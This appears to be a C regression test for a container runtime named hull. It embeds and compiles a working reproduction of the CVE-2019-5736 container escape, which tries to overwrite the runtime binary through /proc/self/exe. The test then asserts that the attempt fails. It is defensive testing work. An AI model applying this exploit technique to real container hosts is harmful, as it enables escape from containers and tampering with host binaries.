/* The attacks suite (attacks.c): CVE-2019-5736, hull's binary through
 * /proc/self/exe. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attacks.h"

/* 2. CVE-2019-5736: the container's entrypoint is /proc/self/exe (or a
 * link to it); the init, a clone of hull, execs it, so the kernel runs
 * hull's host binary with the image's ELF interpreter, which the image
 * replaced by the attacker's program. That program opens /proc/self/exe
 * (hull's binary) with O_PATH, forks a child that execs the program itself
 * (so that it no longer runs hull's binary), and execs sleep. The child
 * waits until no process runs hull's binary (the parent's exec, then the
 * test's "go" once hull has exited) and reopens the fd for writing through
 * /proc/self/fd; if it can, it appends a marker to the binary. hull here is
 * a copy in the bundle, run by its path, whose bytes the test compares. The
 * program is freestanding (raw syscalls): as an interpreter it cannot rely
 * on a libc that reads the auxv of hull's binary. */
static const char exe_attacker_src[] =
	"typedef unsigned long size_t;\n"
	"struct pfd { int fd; short events, revents; };\n"
	"struct tspec { long s, ns; };\n"
	"void *memcpy(void *d, const void *s, size_t n) { char *a = d; const char *b = s;"
	" while (n--) *a++ = *b++; return d; }\n"
	"void *memset(void *d, int c, size_t n) { char *a = d; while (n--) *a++ = (char)c; return d; }\n"
	"static long sys4(long n, long a, long b, long c, long d) {\n"
	"  long r; register long r10 __asm__(\"r10\") = d;\n"
	"  __asm__ volatile(\"syscall\" : \"=a\"(r) : \"a\"(n), \"D\"(a), \"S\"(b), \"d\"(c), \"r\"(r10)"
	" : \"rcx\", \"r11\", \"memory\");\n"
	"  return r; }\n"
	"#define S(n, a, b, c) sys4(n, (long)(a), (long)(b), (long)(c), 0)\n"
	"#define OPEN 2\n#define READ 0\n#define WRITE 1\n#define CLOSE 3\n#define POLL 7\n#define FCNTL 72\n"
	"#define PIPE2 293\n#define FORK 57\n#define EXECVE 59\n#define EXIT 231\n#define READLINK 89\n"
	"#define CLOCK 228\n"
	"static char rep[1024]; static unsigned long rl;\n"
	"static void add(const char *s) { while (*s && rl < sizeof(rep) - 1) rep[rl++] = *s++; }\n"
	"static void itoa(long v, char *b) { char t[24]; int i = 0; unsigned long u = v < 0 ? -v : v;"
	" do t[i++] = (char)('0' + u % 10); while ((u /= 10)); if (v < 0) *b++ = '-';"
	" while (i) *b++ = t[--i]; *b = 0; }\n"
	"static void addn(long v) { char b[24]; itoa(v, b); add(b); }\n"
	"static long num(const char *s) { long v = 0; while (*s >= '0' && *s <= '9') v = v * 10 + *s++ - '0';"
	" return v; }\n"
	"static int same(const char *a, const char *b) { while (*a && *a == *b) a++, b++; return *a == *b; }\n"
	"static long ms(void) { struct tspec t; S(CLOCK, 1, &t, 0); return t.s * 1000 + t.ns / 1000000; }\n"
	"static void say(const char *fifo) { long fd = S(OPEN, fifo, 1, 0);"
	" if (fd >= 0) { S(WRITE, fd, rep, rl); S(CLOSE, fd, 0, 0); } rl = 0; }\n"
	"static void die(const char *what, long e) { add(\"error \"); add(what); add(\" errno=\"); addn(e);"
	" add(\"\\n\"); say(\"/mnt/ready\"); S(EXIT, 1, 0, 0); }\n"
	/* As hull's interpreter: argv and envp are hull's entrypoint's. */
	"static void interp(char **argv, char **envp) {\n"
	"  long fd = S(OPEN, \"/proc/self/exe\", 010000000, 0);\n"
	"  if (fd < 0) die(\"open /proc/self/exe O_PATH\", -fd);\n"
	"  int p[2]; long e = S(PIPE2, p, 0, 0);\n"
	"  if (e < 0 || (e = S(FCNTL, p[1], 2, 1)) < 0) die(\"pipe\", -e);\n"
	"  char fds[24], ps[24]; itoa(fd, fds); itoa(p[0], ps);\n"
	"  long pid = S(FORK, 0, 0, 0);\n"
	"  if (pid < 0) die(\"fork\", -pid);\n"
	"  if (pid == 0) {\n"
	"    char *cargv[5]; cargv[0] = \"atk-child\"; cargv[1] = fds; cargv[2] = ps; cargv[3] = argv[0];"
	" cargv[4] = 0;\n"
	"    e = S(EXECVE, \"/lib64/ld-linux-x86-64.so.2\", cargv, envp); die(\"exec child\", -e);\n"
	"  }\n"
	"  char *sargv[3]; sargv[0] = \"sleep\"; sargv[1] = \"120\"; sargv[2] = 0;\n"
	"  e = S(EXECVE, \"/bin/sleep\", sargv, envp); die(\"exec sleep\", -e);\n"
	"}\n"
	"static const char mark[] = \"\\nHULL-ATTACK-CVE-2019-5736\\n\";\n"
	"static void child(char **argv) {\n"
	"  long fd = num(argv[1]), pfd = num(argv[2]);\n"
	"  char path[40] = \"/proc/self/fd/\"; itoa(fd, path + 14);\n"
	"  char exe[256]; long n = S(READLINK, path, exe, 255); exe[n > 0 ? n : 0] = 0;\n"
	/* The parent's exec closes the other end: then it runs hull no more. */
	"  struct pfd w; w.fd = (int)pfd; w.events = 1; w.revents = 0; long gone = 0; char c;\n"
	"  if (sys4(POLL, (long)&w, 1, 10000, 0) == 1) gone = S(READ, pfd, &c, 1) == 0;\n"
	"  long go = S(OPEN, \"/mnt/go\", 04000, 0);\n"
	"  if (go < 0) die(\"open /mnt/go\", -go);\n"
	"  add(\"armed fd=\"); addn(fd); add(\" exe=\"); add(exe); add(\" argv0=\"); add(argv[3]);"
	" add(\" parent_exec=\"); addn(gone); add(\"\\n\"); say(\"/mnt/ready\");\n"
	"  long tries = 0, last = 0, txt = 0, rofs = 0, perm = 0, acc = 0, other = 0, got_go = 0, pwned = 0;\n"
	"  long end = ms() + 10000;\n"
	"  for (;;) {\n"
	"    int final = got_go; tries++; long e;\n"
	"    long wfd = S(OPEN, path, 1 | 02000, 0);\n"
	"    if (wfd >= 0) { long k = S(WRITE, wfd, mark, sizeof(mark) - 1); S(CLOSE, wfd, 0, 0);"
	" if (k == (long)sizeof(mark) - 1) { pwned = 1; break; } e = k < 0 ? -k : 5; }\n"
	"    else e = -wfd;\n"
	"    last = e; if (e == 26) txt++; else if (e == 30) rofs++; else if (e == 1) perm++;"
	" else if (e == 13) acc++; else other++;\n"
	"    if (final || ms() > end) break;\n"
	"    struct pfd g; g.fd = (int)go; g.events = 1; g.revents = 0;\n"
	"    if (sys4(POLL, (long)&g, 1, 2, 0) == 1 && (g.revents & 1)) got_go = 1;\n"
	"  }\n"
	"  add(pwned ? \"result=pwned\" : \"result=failed\"); add(\" tries=\"); addn(tries);"
	" add(\" last_errno=\"); addn(last); add(\" etxtbsy=\"); addn(txt); add(\" erofs=\"); addn(rofs);"
	" add(\" eperm=\"); addn(perm); add(\" eacces=\"); addn(acc); add(\" other=\"); addn(other);"
	" add(\" go=\"); addn(got_go); add(\" exe=\"); add(exe); add(\"\\n\"); say(\"/mnt/result\");\n"
	"  S(EXIT, 0, 0, 0);\n"
	"}\n"
	"void cmain(long *sp) {\n"
	"  int argc = (int)sp[0]; char **argv = (char **)(sp + 1); char **envp = argv + argc + 1;\n"
	"  if (argc == 4 && same(argv[0], \"atk-child\")) child(argv); else interp(argv, envp);\n"
	"  S(EXIT, 2, 0, 0);\n"
	"}\n"
	"__asm__(\".globl _start\\n_start:\\n mov %rsp, %rdi\\n and $-16, %rsp\\n call cmain\\n hlt\\n\");\n";

enum exe_start { EXE_RUN_DETACH, EXE_CREATE_START };

/* The image: its ELF interpreter is the attacker, its entrypoint entry
 * (/proc/self/exe or a link to it); the fifos go and result. */
static void exe_image(struct ht *t, const char *entry)
{
	static const char *const flags[] = { "-static", "-nostdlib", "-ffreestanding", "-fno-builtin",
					     "-fno-tree-loop-distribute-patterns", "-fno-stack-protector",
					     "-fno-pie", "-no-pie", "-O1", "-w", NULL };
	char path[4300];
	snprintf(path, sizeof(path), "%s/lib64/ld-linux-x86-64.so.2", t->rootfs);
	atk_compile(exe_attacker_src, path, flags);
	if (strcmp(entry, "/proc/self/exe")) {
		snprintf(path, sizeof(path), "%s%s", t->rootfs, entry);
		ck_assert_int_eq(symlink("/proc/self/exe", path), 0);
	}
	ht_add_sync(t);
	atk_make_fifo(t, "go");
	atk_make_fifo(t, "result");
	ht_args(t, entry, NULL);
	ht_write_config(t);
}

/* The container started by the copy of hull, as how says. */
static void exe_start(struct ht *t, enum exe_start how, const char *copy, const char *real_hull)
{
	struct ht_result r;
	setenv("HULL", copy, 1);
	if (how == EXE_RUN_DETACH) {
		ht_hull(t, &r, NULL, "run", "--detach", "--bundle", t->bundle, t->id, NULL);
	} else {
		ht_hull(t, &r, NULL, "create", "--bundle", t->bundle, t->id, NULL);
		if (r.status == 0) {
			ht_result_free(&r);
			ht_hull(t, &r, NULL, "start", t->id, NULL);
		}
	}
	setenv("HULL", real_hull, 1);
	ck_assert_msg(r.status == 0, "%s: exit %d (the attacker never ran: this test needs the container "
		      "to start)\nstderr: %s", how == EXE_RUN_DETACH ? "run -d" : "create/start", r.status, r.err);
	ht_result_free(&r);
}

static void exe_overwrite(enum exe_start how, const char *entry)
{
	struct ht t;
	char copy[200], real_hull[4096], l[256];
	double t0 = atk_now_s();
	ht_begin(&t, true);
	snprintf(real_hull, sizeof(real_hull), "%s", getenv("HULL"));
	/* The hull under attack: a copy, run by its path. */
	snprintf(copy, sizeof(copy), "%s/bin", t.bundle);
	ck_assert_int_eq(mkdir(copy, 0755), 0);
	snprintf(copy, sizeof(copy), "%s/bin/hull", t.bundle);
	atk_copy_file(real_hull, copy, 0755);
	size_t before_len;
	char *before = atk_slurp(copy, &before_len);
	ck_assert_ptr_nonnull(before);
	exe_image(&t, entry);
	int result_fd = atk_fifo_reader(&t, "result");
	exe_start(&t, how, copy, real_hull);
	/* hull has exited: no hull process runs the copy now. */
	char *armed = ht_wait_ready(&t);
	bool told = atk_fifo_tell(&t, "go", "go\n");
	char *result = atk_fifo_read_all(result_fd, 15000);
	size_t after_len;
	char *after = atk_slurp(copy, &after_len);
	bool same = after && after_len == before_len && !memcmp(before, after, before_len);
	fprintf(stderr, "attacks: exe_overwrite %s %s: %s | %s | copy %s, %.1f s\n",
		how == EXE_RUN_DETACH ? "run -d" : "create+start", entry, atk_line1(armed, l, sizeof(l)),
		result ? result : "(no result)\n", same ? "unchanged" : "CHANGED", atk_now_s() - t0);
	atk_delete_and_finish(&t);
	/* The attacker ran as hull's interpreter and held hull's binary. */
	ck_assert_msg(!strncmp(armed, "armed fd=", 9) && strstr(armed, " parent_exec=1"),
		      "the attacker did not get going: %s", armed);
	ck_assert_msg(result != NULL, "the attacker's child never reported (armed: %s; go %s)", armed,
		      told ? "sent" : "not sent: nobody listened");
	ck_assert_msg(same && strstr(result, "result=failed"),
		      "CVE-2019-5736: the container overwrote hull's binary through /proc/self/exe: "
		      "copy %s (%zu bytes, was %zu); attacker: %s", same ? "unchanged" : "CHANGED", after_len,
		      before_len, result);
	long e = atk_field(result, "last_errno");
	ck_assert_msg(e == EROFS || e == EPERM || e == ETXTBSY,
		      "the write failed, but not for EROFS, EPERM or ETXTBSY: %s", result);
	ck_assert_msg(told && atk_field(result, "go") == 1 && atk_field(result, "tries") >= 2,
		      "the attacker did not try after hull had exited: %s", result);
	free(armed);
	free(result);
	free(before);
	free(after);
}

START_TEST(exe_overwrite_run_detach)
{
	exe_overwrite(EXE_RUN_DETACH, "/proc/self/exe");
}
END_TEST

START_TEST(exe_overwrite_create_start)
{
	exe_overwrite(EXE_CREATE_START, "/proc/self/exe");
}
END_TEST

START_TEST(exe_overwrite_symlink)
{
	exe_overwrite(EXE_RUN_DETACH, "/bin/hull-self");
}
END_TEST
HULL_TESTS(attacks_exe)
{
	tcase_add_test(tc, exe_overwrite_run_detach);
	tcase_add_test(tc, exe_overwrite_create_start);
	tcase_add_test(tc, exe_overwrite_symlink);
}
